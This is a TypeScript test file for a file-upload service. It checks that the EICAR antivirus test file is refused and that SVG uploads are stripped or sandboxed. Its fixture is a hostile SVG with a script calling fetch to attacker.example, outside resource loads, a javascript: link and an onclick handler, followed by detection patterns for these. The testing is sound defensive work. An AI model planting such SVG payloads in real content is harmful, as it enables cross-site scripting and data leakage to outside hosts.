import { prove } from '../failure.ts';
import type { ProbeContext, ProbeReply } from '../probe-context.ts';
import { casePath, writeCase } from '../steps/cases.ts';
import { type GivenFile, open, settled, upload } from '../steps/evidence.ts';
import { done } from '../steps/expect.ts';
import { uniqueWord } from '../steps/unique.ts';

// In two halves, so that no scanner takes this file for the test file it sends.
const testVirus = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const bytes = (text: string) => new TextEncoder().encode(text);

/** The harmless file that every scanner takes for a virus, and a clean one beside it. */
export async function infectedFilesAreRefused(context: ProbeContext): Promise<void> {
  const { a } = context;
  const { member, owner } = a.people;
  const { id: caseId } = await writeCase(context, a, member);
  const file = { name: 'readme.txt', type: 'text/plain', bytes: bytes(testVirus) };
  const { id } = await upload(context, a, caseId, member, file);
  const { state, refusal } = await settled(context, a, id, member);
  prove(state === 'refused' && refusal !== null, 'An infected file was not refused.');
  for (const as of [member, owner]) {
    for (const what of ['content', 'preview'] as const) {
      const reply = await open(context, a, id, as, what);
      prove(reply.status >= 400, 'An infected file was served.');
      prove(!reply.text.includes(testVirus.slice(0, 20)), 'The content of an infected file was served.');
    }
  }
  await cleanFilesPass(context, caseId);
}

async function cleanFilesPass(context: ProbeContext, caseId: string): Promise<void> {
  const { a } = context;
  const word = uniqueWord();
  const file = { name: 'notes.txt', type: 'text/plain', bytes: bytes(`Notes with ${word}.`) };
  const { id, state } = await upload(context, a, caseId, a.people.member, file);
  const before = await open(context, a, id, a.people.owner, 'content');
  const waits = state === 'clean' || before.status >= 400 || before.text.includes(word);
  prove(waits, 'A file that was not looked at yet was served.');
  const after = await settled(context, a, id, a.people.member);
  prove(after.state === 'clean', 'A clean file was refused.');
  const read = await open(context, a, id, a.people.owner, 'content');
  prove(read.text.includes(word), 'A clean file is not served.');
  const attached = (read.headers.get('content-disposition') ?? '').startsWith('attachment');
  prove(attached, 'A file opens in the browser instead of being saved.');
  const list = casePath(a, caseId, '/evidence/query');
  done(await context.call({ method: 'POST', path: list, as: a.people.owner, body: {} }), 'listing evidence');
}

const hostileDrawing: GivenFile = {
  name: 'drawing.svg',
  type: 'image/svg+xml',
  bytes:
    bytes(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">
    <script>fetch('https://attacker.example')</script>
    <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">hi</body></foreignObject>
    <image xlink:href="https://attacker.example/pixel.png" width="1" height="1"/>
    <use href="https://attacker.example/sprite.svg#x"/>
    <a href="javascript:alert(1)"><rect width="9" height="9" onclick="alert(1)" fill="red"/></a>
    <style>@import url(https://attacker.example/style.css);</style></svg>`),
};

const harm: Readonly<Record<string, RegExp>> = {
  'a script': /<script/i,
  'foreign content': /foreignObject/i,
  'an outside reference': /attacker\.example/i,
  'an event handler': /\son\w+\s*=/i,
  'a script address': /javascript:/i,
};

export async function drawingsAreCleaned(context: ProbeContext): Promise<void> {
  const { a } = context;
  const { member, reviewer } = a.people;
  const { id: caseId } = await writeCase(context, a, member);
  const { id } = await upload(context, a, caseId, member, hostileDrawing);
  const { state } = await settled(context, a, id, member);
  if (state === 'refused') return;
  for (const what of ['preview', 'content'] as const) {
    const reply = await open(context, a, id, reviewer, what);
    for (const [what, pattern] of Object.entries(harm)) {
      prove(!pattern.test(reply.text), `A drawing is served with ${what}.`);
    }
    prove(isHarmless(reply), 'A drawing is served where a script in it could run.');
  }
}

/** Saved rather than shown, or shown in a sandbox that allows nothing. */
function isHarmless({ status, headers }: ProbeReply): boolean {
  if (status >= 400 || (headers.get('content-disposition') ?? '').startsWith('attachment')) return true;
  const policy = headers.get('content-security-policy') ?? '';
  return /(?:^|;)\s*sandbox\s*(?:;|$)/.test(policy) && /default-src 'none'/.test(policy);
}
